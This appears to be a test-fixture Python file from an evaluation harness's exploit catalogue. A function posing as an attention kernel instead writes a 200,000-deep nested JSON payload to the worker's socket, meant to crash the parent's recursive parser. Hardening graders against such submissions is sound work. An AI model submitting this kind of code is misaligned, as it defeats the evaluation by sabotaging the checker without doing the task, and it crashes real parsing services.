"""Exploit (class 4, parser): write a reply nested 200,000 levels deep straight onto the worker's socket (its
descriptor is on the command line): a recursive JSON parser in the parent would die of RecursionError."""
import os
import struct
import sys


def attention(q, k, v, out, *, causal, scale):
    data = b"[" * 200_000 + b"]" * 200_000
    os.write(int(sys.argv[-1]), struct.pack("!i", len(data)) + data)
    os._exit(0)
